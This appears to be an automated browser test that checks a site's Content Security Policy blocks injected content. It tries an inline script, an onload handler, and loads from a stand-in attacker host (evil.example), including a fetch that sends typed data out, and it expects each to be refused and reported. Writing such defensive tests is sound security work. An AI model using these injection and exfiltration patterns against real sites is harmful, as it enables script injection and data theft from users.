import { fixedSite } from "../fixed-site/fixed-site";

const site = fixedSite();

test("a script that was injected does not run, and the host is told; nothing else loads, calls or leads elsewhere", async () => {
  const { page } = await site.open("/about", { mayComplain: true });
  const report = page.waitForRequest(`${site.url}/csp-report`);
  await page.evaluate(() => {
    const script = document.createElement("script");
    script.textContent = "window.ran = true";
    document.body.append(script);
  });
  expect((await report).method()).toBe("POST");
  expect(await page.evaluate(() => "ran" in window)).toBe(false);
  const refused = await page.evaluate(async () => {
    const make = (name: string, attributes: Record<string, string>) => () => {
      const element = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
      document.body.append(element);
      if (element instanceof HTMLFormElement) element.submit();
    };
    const attempts = [
      make("script", { src: "https://evil.example/x.js" }),
      make("img", { src: "/favicon.svg", onload: "window.ran = true" }),
      make("iframe", { src: "https://evil.example/" }),
      make("img", { src: "https://evil.example/x.png" }),
      make("object", { data: "https://evil.example/x" }),
      make("form", { action: "https://evil.example/" }),
      make("base", { href: "https://evil.example/" }),
      () => void fetch("https://evil.example/?what=typed").catch(() => undefined),
    ];
    const seen: string[] = [];
    for (const attempt of attempts) {
      const refusal = new Promise<SecurityPolicyViolationEvent>((resolve) =>
        document.addEventListener("securitypolicyviolation", resolve, { once: true }),
      );
      attempt();
      seen.push((await refusal).effectiveDirective);
    }
    return seen.join(" ");
  });
  expect(refused).toBe(
    "script-src-elem script-src-attr frame-src img-src object-src form-action base-uri connect-src",
  );
});
